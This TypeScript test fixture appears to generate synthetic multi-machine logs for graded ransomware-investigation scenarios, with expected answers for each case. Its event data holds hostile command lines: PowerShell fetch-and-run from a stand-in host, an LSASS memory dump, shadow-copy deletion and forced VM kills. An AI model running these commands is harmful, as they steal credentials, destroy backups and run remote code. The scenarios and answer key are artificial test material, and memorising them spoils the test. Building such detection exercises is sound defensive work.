import type { LogEvent } from '#domain/evidence/log-event.ts';
import { makeEvent } from './event-log-writer.ts';

// Incidents of one small office, each put together from the logs of several machines: a month of ordinary work, and what one attack adds.

export const minute = 60_000;
export const hour = 60 * minute;
export const day = 24 * hour;
const terminalServices = 'Microsoft-Windows-TerminalServices-';

/** When files are encrypted, at night. */
export const endOfStory = Date.parse('2026-11-12T03:00:00Z');
const monthStart = endOfStory - 30 * day;
export const attacker = '192.0.2.66';
const owner = '198.51.100.23';
const provider = '203.0.113.7';

export interface Incident {
	name: string;
	/** Log files by name; text stands for logs of devices and clouds. */
	files: Record<string, LogEvent[] | string>;
	/** Accepted answers; `null` for "cannot tell". */
	wayIn: readonly (string | null)[];
	/** When the attack left its first trace; `null` without an attack. */
	firstSign: number | null;
	/** Accounts and addresses that must not be named. */
	harmless: readonly string[];
	/** The computer to look at next, where the answer cannot be told. */
	source?: string;
}

const at = (days: number, hours: number) => monthStart - 3 * hour + days * day + hours * hour;
/** Before the encryption. */
export const before = (hours: number, minutes = 0) => endOfStory - hours * hour - minutes * minute;

type Data = Record<string, string>;
export const security = (computer: string, id: number, time: number, data: Data) =>
	makeEvent({ computer, id, time, data });
export const signIn = (
	computer: string,
	account: string,
	address: string,
	time: number,
	type = '10',
	more: Data = {},
) =>
	security(computer, 4624, time, {
		TargetUserName: account,
		TargetDomainName: 'OFFICE',
		TargetUserSid: 'S-1-5-21-1-2-3-1105',
		IpAddress: address,
		LogonType: type,
		...more,
	});
export const session = (computer: string, account: string, address: string, time: number) =>
	makeEvent({
		provider: `${terminalServices}LocalSessionManager`,
		channel: `${terminalServices}LocalSessionManager/Operational`,
		computer,
		id: 21,
		time,
		data: { User: `OFFICE\\${account}`, Address: address },
	});
export const remoteDesktop = (computer: string, account: string, address: string, time: number) => [
	signIn(computer, account, address, time - 2000, '3'),
	signIn(computer, account, address, time),
	session(computer, account, address, time + 3000),
];
export const failures = (computer: string, account: string, address: string, time: number, count: number) =>
	Array.from({ length: count }, (_, index) =>
		security(computer, 4625, time - (count - index) * 2000, {
			TargetUserName: account,
			IpAddress: address,
			LogonType: '3',
		}),
	);
export const run = (
	computer: string,
	account: string,
	command: string,
	time: number,
	parent = 'explorer.exe',
) =>
	security(computer, 4688, time, {
		NewProcessName: `C:\\Windows\\System32\\${command.split(/[ .]/)[0]}.exe`,
		ParentProcessName: `C:\\Windows\\${parent}`,
		CommandLine: command,
		SubjectUserName: account,
		SubjectDomainName: 'OFFICE',
	});
export const service = (computer: string, name: string, path: string, time: number) =>
	makeEvent({
		provider: 'Service Control Manager',
		channel: 'System',
		computer,
		id: 7045,
		time,
		data: { ServiceName: name, ImagePath: path, ServiceType: 'user mode service', StartType: 'auto start' },
	});
export const defender = (computer: string, id: number, time: number, data: Data = {}) =>
	makeEvent({
		provider: 'Microsoft-Windows-Windows Defender',
		channel: 'Microsoft-Windows-Windows Defender/Operational',
		computer,
		id,
		time,
		data,
	});
export const cleared = (computer: string, account: string, time: number) =>
	makeEvent({
		provider: 'Microsoft-Windows-Eventlog',
		computer,
		id: 1102,
		time,
		data: { SubjectUserName: account },
	});
export const newAdmin = (computer: string, by: string, name: string, time: number) => [
	security(computer, 4720, time, {
		TargetUserName: name,
		TargetSid: `S-1-5-21-1-2-3-${name.length}77`,
		SubjectUserName: by,
		SubjectUserSid: 'S-1-5-21-1-2-3-1105',
	}),
	security(computer, 4732, time + 5000, {
		TargetSid: 'S-1-5-32-544',
		TargetUserName: 'Administrators',
		MemberSid: `S-1-5-21-1-2-3-${name.length}77`,
		SubjectUserName: by,
		SubjectUserSid: 'S-1-5-21-1-2-3-1105',
	}),
];
export const encryption = (computer: string, account: string, address: string, time = endOfStory) =>
	Array.from({ length: 260 }, (_, index) =>
		security(computer, 5145, time + index * 500, {
			SubjectUserName: account,
			IpAddress: address,
			ShareName: '\\\\*\\Data',
			RelativeTargetName: `invoices\\${index}.xlsx`,
			AccessList: '%%4417',
		}),
	);

/** What every case begins with: staff, the owner in the evening, the IT provider each week, a nightly backup, and guessing that fails. */
function ordinaryMonth(days = 30): Record<string, LogEvent[]> {
	const [rds, dc, fs, pc]: LogEvent[][] = [[], [], [], []];
	for (let index = 0; index < days; index++) {
		pc?.push(signIn('PC-ANNA', 'anna', '127.0.0.1', at(index, 13), '2'));
		fs?.push(signIn('FS01', 'anna', '10.0.0.51', at(index, 13.1), '3'));
		pc?.push(
			security('PC-ANNA', 4648, at(index, 13.1) - 1000, {
				TargetUserName: 'anna',
				TargetServerName: 'FS01',
				SubjectUserName: 'anna',
			}),
		);
		dc?.push(
			security('DC01', 4769, at(index, 13.1) - 2000, {
				TargetUserName: 'anna@OFFICE',
				ServiceName: 'FS01$',
				IpAddress: '::ffff:10.0.0.51',
				Status: '0x0',
				TicketEncryptionType: '0x12',
			}),
		);
		dc?.push(signIn('DC01', 'anna', '10.0.0.51', at(index, 13), '3'));
		dc?.push(signIn('DC01', 'PC-ANNA$', '10.0.0.51', at(index, 12.9), '3'));
		dc?.push(signIn('DC01', 'RDS01$', '10.0.0.20', at(index, 12.8), '3'));
		rds?.push(...remoteDesktop('RDS01', 'owner', owner, at(index, 21 + (index % 3) / 2)));
		rds?.push(...failures('RDS01', 'administrator', `192.0.2.${100 + index}`, at(index, 9), 14));
		if (index % 7 === 2) rds?.push(...remoteDesktop('RDS01', 'itadmin', provider, at(index, 15)));
		if (index % 7 === 2) dc?.push(...remoteDesktop('DC01', 'itadmin', '10.0.0.20', at(index, 15.2)));
		fs?.push(run('FS01', 'SYSTEM', 'vssadmin delete shadows /for=D: /oldest /quiet', at(index, 2)));
		fs?.push(run('FS01', 'backup', 'net stop "SQL Server (BOOKS)"', at(index, 2.01)));
	}
	return {
		'RDS01/Security.evtx': rds ?? [],
		'DC01/Security.evtx': dc ?? [],
		'FS01/Security.evtx': fs ?? [],
		'PC-ANNA/Security.evtx': pc ?? [],
	};
}

/** Reads passwords, moves from the first server to the others and encrypts. */
function takeover(first: string, account: string, address: string, begin = before(3)): LogEvent[] {
	return [
		run(
			first,
			account,
			'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Temp\\lsass.dmp full',
			begin,
		),
		defender(first, 5001, begin + 10 * minute),
		...remoteDesktop('DC01', account, address, begin + 20 * minute),
		service('DC01', 'kqzwpvnb', 'C:\\Windows\\Temp\\kqz.exe', begin + 25 * minute),
		...remoteDesktop('FS01', account, address, begin + 60 * minute),
		run('FS01', account, 'vssadmin delete shadows /all /quiet', endOfStory - 10 * minute),
		...encryption('FS01', account, address),
	];
}

/** Events go to the file of their computer and channel, in the order of time. */
export function put(
	files: Record<string, LogEvent[]>,
	events: readonly LogEvent[],
): Record<string, LogEvent[]> {
	const all = [...Object.values(files).flat(), ...events].sort((a, b) => a.time - b.time);
	const sorted: Record<string, LogEvent[]> = {};
	for (const event of all) {
		const name = `${event.computer}/${event.channel.replaceAll('/', '-')}.evtx`;
		sorted[name] ??= [];
		sorted[name].push({ ...event, recordId: sorted[name].length + 1 });
	}
	return sorted;
}

export const shiftClock = (files: Record<string, LogEvent[]>, computer: string, by: number) =>
	Object.fromEntries(
		Object.entries(files).map(([name, events]) => [
			name,
			events.map((event) => (event.computer === computer ? { ...event, time: event.time + by } : event)),
		]),
	);

export const stamp = (time: number) => new Date(time).toISOString().slice(0, 19);
const fortigate = (time: number, more: string) => {
	const [date = '', clock = ''] = stamp(time).split('T');
	return `date=${date} time=${clock} devname="FW1" tz="+0000" eventtime=${time}000000 type="event" subtype="vpn" ${more}\n`;
};
export const tunnel = (time: number, user: string, address: string, inside: string) =>
	fortigate(
		time,
		`logid="0101039947" action="tunnel-up" tunneltype="ssl-tunnel" remip=${address} user="${user}" tunnelip=${inside}`,
	);
const staffTunnels = Array.from({ length: 28 }, (_, index) =>
	tunnel(at(index, 12), 'anna', '198.51.100.80', '10.212.134.2'),
).join('');

const usual = [owner, provider, 'owner', 'itadmin', '10.0.0.51', 'PC-ANNA'];
const guessed = [
	...failures('RDS01', 'reception', attacker, before(4), 30),
	...remoteDesktop('RDS01', 'reception', attacker, before(4)),
	...newAdmin('RDS01', 'reception', 'support2', before(3, 50)),
];
const month = () => ordinaryMonth();
const cases: Omit<Incident, 'files'>[] = [];
const build: ((files: Record<string, LogEvent[]>) => Incident['files'])[] = [];

function add(
	name: string,
	expected: Omit<Incident, 'name' | 'files' | 'harmless'> & { harmless?: readonly string[] },
	make: (files: Record<string, LogEvent[]>) => Incident['files'],
): void {
	cases.push({ name, harmless: usual, ...expected });
	build.push(make);
}

add('a quiet month', { wayIn: [null], firstSign: null }, (files) => put(files, []));
add(
	'a guessed password, beside the evening sign-in of the owner',
	{ wayIn: ['guess-success', 'rdp-login-public'], firstSign: before(4) },
	(files) => put(files, [...guessed, ...takeover('RDS01', 'reception', '10.0.0.20')]),
);
add(
	'an owner who signs in minutes before the attack',
	{ wayIn: ['guess-success', 'rdp-login-public'], firstSign: before(4) },
	(files) =>
		put(files, [
			...remoteDesktop('RDS01', 'owner', owner, before(4, 10)),
			...guessed,
			...takeover('RDS01', 'reception', '10.0.0.20'),
		]),
);
add(
	'an IT provider whose visit falls on the day',
	{ wayIn: ['rdp-login-public'], firstSign: before(5) },
	(files) =>
		put(files, [
			...remoteDesktop('RDS01', 'itadmin', provider, before(8)),
			...remoteDesktop('RDS01', 'anna', attacker, before(5)),
			...takeover('RDS01', 'anna', '10.0.0.20'),
		]),
);
add(
	'staff who travel during the attack',
	{
		wayIn: ['rdp-login-public'],
		firstSign: before(6),
		harmless: [...usual, 'ben', '198.51.100.140', '203.0.113.90'],
	},
	(files) =>
		put(files, [
			...remoteDesktop('RDS01', 'ben', '198.51.100.140', at(25, 20)),
			...remoteDesktop('RDS01', 'ben', '203.0.113.90', before(9)),
			...remoteDesktop('RDS01', 'temp', attacker, before(6)),
			...takeover('RDS01', 'temp', '10.0.0.20'),
		]),
);
add(
	'an IT provider in a data center',
	{ wayIn: ['rdp-login-public'], firstSign: before(5), harmless: [...usual, '192.0.2.10', '192.0.2.31'] },
	(files) =>
		put(files, [
			...[5, 12, 19, 26].flatMap((index) =>
				remoteDesktop('RDS01', 'itadmin', `192.0.2.${index % 2 === 0 ? 10 : 31}`, at(index, 10)),
			),
			...remoteDesktop('RDS01', 'scan', '203.0.113.200', before(5)),
			...takeover('RDS01', 'scan', '10.0.0.20'),
		]),
);
add(
	'an attacker in the network of the owner',
	{ wayIn: ['rdp-login-public'], firstSign: before(5), harmless: [owner, provider, 'itadmin'] },
	(files) =>
		put(files, [
			...remoteDesktop('RDS01', 'owner', '198.51.100.201', before(5)),
			...takeover('RDS01', 'owner', '10.0.0.20'),
		]),
);
add(
	'a clock that is seven hours ahead',
	{ wayIn: ['guess-success', 'rdp-login-public'], firstSign: before(4) },
	(files) =>
		shiftClock(put(files, [...guessed, ...takeover('RDS01', 'reception', '10.0.0.20')]), 'FS01', 7 * hour),
);
add(
	'guessing that failed, and a document that was opened',
	{ wayIn: ['office-child', 'script-open'], firstSign: before(30), harmless: [...usual, '192.0.2.77'] },
	(files) =>
		put(files, [
			...failures('RDS01', 'administrator', '192.0.2.77', before(31), 400),
			security('PC-BEN', 4688, before(30), {
				NewProcessName: 'C:\\Windows\\System32\\powershell.exe',
				ParentProcessName: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
				CommandLine: 'powershell -w hidden iwr http://192.0.2.5/a.ps1 | iex',
				SubjectUserName: 'ben',
			}),
			...takeover('PC-BEN', 'ben', '10.0.0.52'),
		]),
);
add('erased logs', { wayIn: ['guess-success', 'rdp-login-public', null], firstSign: before(4) }, (files) =>
	put(
		Object.fromEntries(
			Object.entries(files).map(([name, events]) => [
				name,
				name.startsWith('RDS01') ? events.filter(({ time }) => time > before(1)) : events,
			]),
		),
		[
			session('RDS01', 'reception', attacker, before(4)),
			...takeover('RDS01', 'reception', '10.0.0.20').filter(({ computer }) => computer !== 'RDS01'),
			cleared('RDS01', 'reception', before(1)),
		],
	),
);
add('a stick in a PC', { wayIn: [null], firstSign: before(20), harmless: [...usual, 'PC-ANNA'] }, (files) =>
	put(files, [
		run(
			'PC-BEN',
			'ben',
			'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 lsass.dmp full',
			before(20),
		),
		defender('PC-BEN', 5001, before(19)),
		...takeover('FS01', 'ben', '10.0.0.52', before(4)),
	]),
);
add(
	'an attack from a computer without logs',
	{ wayIn: [null], firstSign: before(3, 30), source: '10.0.0.99' },
	(files) =>
		put(files, [
			...remoteDesktop('DC01', 'backupadm', '10.0.0.99', before(3, 30)),
			...takeover('DC01', 'backupadm', '10.0.0.99'),
		]),
);
add('a security test without an attack', { wayIn: [null], firstSign: null }, (files) =>
	put(files, [
		...remoteDesktop('RDS01', 'pentest', '203.0.113.55', at(12, 10)),
		run('RDS01', 'pentest', 'net user pentest /domain', at(12, 11)),
		...newAdmin('RDS01', 'itadmin', 'newhire', at(16, 15.1)),
	]),
);
add(
	'an agreed test nine days before the attack',
	{
		wayIn: ['guess-success', 'rdp-login-public'],
		firstSign: before(4),
		harmless: [...usual, 'pentest', '10.0.0.240'],
	},
	(files) =>
		put(files, [
			signIn('DC01', 'pentest', '10.0.0.240', at(21, 10), '3'),
			run('DC01', 'pentest', 'powershell invoke-kerberoast; invoke-userhunter', at(21, 11)),
			...guessed,
			...takeover('RDS01', 'reception', '10.0.0.20'),
		]),
);
add(
	'two attackers, weeks apart',
	{ wayIn: ['guess-success', 'rdp-login-public'], firstSign: at(10, 4), harmless: usual },
	(files) =>
		put(files, [
			...failures('RDS01', 'scanner', '203.0.113.210', at(10, 4), 40),
			...remoteDesktop('RDS01', 'scanner', '203.0.113.210', at(10, 4)),
			service('RDS01', 'miner', 'C:\\Users\\Public\\xmr.exe', at(10, 4.5)),
			run('RDS01', 'scanner', 'powershell -w hidden iwr http://203.0.113.211/x.ps1 | iex', at(10, 4.6)),
			...guessed,
			...takeover('RDS01', 'reception', '10.0.0.20'),
		]),
);
add(
	'a session from inside, then AnyDesk',
	{ wayIn: [null], firstSign: before(6), source: '10.0.0.99' },
	(files) =>
		put(files, [
			...remoteDesktop('RDS01', 'temp', '10.0.0.99', before(6)),
			service('RDS01', 'AnyDesk', 'C:\\ProgramData\\AnyDesk\\AnyDesk.exe --service', before(5, 50)),
			...takeover('RDS01', 'temp', '10.0.0.99'),
		]),
);
add(
	'a web server that was taken over days before',
	{ wayIn: ['web-shell'], firstSign: before(70) },
	(files) =>
		put(files, [
			run('WEB01', 'IUSR', 'cmd /c whoami', before(70), 'system32\\inetsrv\\w3wp.exe'),
			service('WEB01', 'updsvc', 'C:\\Windows\\Temp\\upd.exe', before(69)),
			...takeover('WEB01', 'websvc', '10.0.0.40'),
		]),
);
add(
	'a VPN session, then a remote control program',
	{ wayIn: ['vpn-login'], firstSign: before(7), harmless: [...usual, '198.51.100.80'] },
	(files) => ({
		...put(files, [
			...remoteDesktop('RDS01', 'mike', '10.212.134.9', before(6, 50)),
			service('RDS01', 'AnyDesk', 'C:\\ProgramData\\AnyDesk\\AnyDesk.exe --service', before(6)),
			...takeover('RDS01', 'mike', '10.212.134.9'),
		]),
		'firewall.log': staffTunnels + tunnel(before(7), 'mike', attacker, '10.212.134.9'),
	}),
);
add(
	'guessed VPN passwords',
	{ wayIn: ['vpn-guess-success', 'vpn-login'], firstSign: before(7), harmless: [...usual, '198.51.100.80'] },
	(files) => ({
		...put(files, takeover('FS01', 'mike', '10.212.134.9')),
		'firewall.log':
			staffTunnels +
			Array.from({ length: 30 }, (_, index) =>
				fortigate(
					before(7) - (31 - index) * 5000,
					`logid="0101039426" action="ssl-login-fail" remip=${attacker} user="mike"`,
				),
			).join('') +
			tunnel(before(7), 'mike', attacker, '10.212.134.9'),
	}),
);
add(
	'the cloud only',
	{
		wayIn: ['cloud-login', 'cloud-guess-success', 'cloud-app-consent'],
		firstSign: before(40),
		harmless: ['198.51.100.80'],
	},
	() => ({
		'audit.csv': `RecordId,CreationDate,RecordType,Operation,UserId,AuditData\n${[
			...Array.from({ length: 25 }, (_, index): [number, string, string] => [
				at(index, 13),
				'UserLoggedIn',
				'198.51.100.80',
			]),
			[before(40), 'UserLoggedIn', attacker] as const,
			[before(39), 'New-InboxRule', attacker] as const,
			[before(38), 'Consent to application.', attacker] as const,
		]
			.map(([time, operation, address], index) => {
				const record = {
					Id: `r${index}`,
					CreationTime: stamp(time),
					Operation: operation,
					UserId: 'anna@office.example',
					ClientIP: address,
					Workload: 'AzureActiveDirectory',
					Parameters: [{ Name: 'DeleteMessage', Value: 'True' }],
				};
				return `r${index},${stamp(time)},15,${operation},anna@office.example,"${JSON.stringify(record).replaceAll('"', '""')}"`;
			})
			.join('\n')}\n`,
	}),
);
add(
	'virtual machines stopped on their host',
	{ wayIn: ['guess-success', 'rdp-login-public'], firstSign: before(4) },
	(files) => ({
		...put(files, [...guessed, ...takeover('RDS01', 'reception', '10.0.0.20')]),
		'hostd.log': [1, 2, 3]
			.map(
				(index) =>
					`${stamp(before(2) + index)}.000Z In(166) Hostd[2099801]: [Originator@6876 sub=Vimsvc] Event ${index} : User root@10.0.0.20 logged in as VMware-client/8.0.0\n`,
			)
			.join(''),
		'shell.log': `${stamp(before(1))}.000Z In(14) shell[1053659]: [root]: esxcli vm process kill --type=force --world-id=8\n`,
	}),
);
add(
	'a storage box that was reachable from the internet',
	{
		wayIn: ['nas-guess-success', 'nas-login', 'ssh-login', 'guess-success'],
		firstSign: before(5),
		harmless: ['10.0.0.51', 'anna'],
	},
	() => ({
		'nas.log': [
			...Array.from({ length: 20 }, (_, index): [number, string] => [
				at(index, 12),
				'Users: anna, Source IP: 10.0.0.51, Computer name: PC-ANNA, Connection type: Samba, Accessed resources: ---, Action: Login Success',
			]),
			...Array.from({ length: 30 }, (_, index): [number, string] => [
				before(5) - (31 - index) * 3000,
				`Users: admin, Source IP: ${attacker}, Computer name: ---, Connection type: HTTPS, Accessed resources: ---, Action: Login Fail`,
			]),
			[
				before(5),
				`Users: admin, Source IP: ${attacker}, Computer name: ---, Connection type: HTTPS, Accessed resources: Administration, Action: Login Success`,
			] as const,
		]
			.map(([time, text]) => `<30>1 ${stamp(time)}Z NAS01 qulogd 14629 - - conn log: ${text}\n`)
			.join(''),
	}),
);

export const makeIncidents = (): Incident[] =>
	cases.map((expected, index) => ({ ...expected, files: build[index]?.(month()) ?? {} }));

/** Files in an order that a seed decides. */
export function shuffle<Item>(items: readonly Item[], seed: number): Item[] {
	return items
		.map((item, index) => ({ item, rank: Math.sin(seed * 97 + index * 13) }))
		.sort((a, b) => a.rank - b.rank)
		.map(({ item }) => item);
}
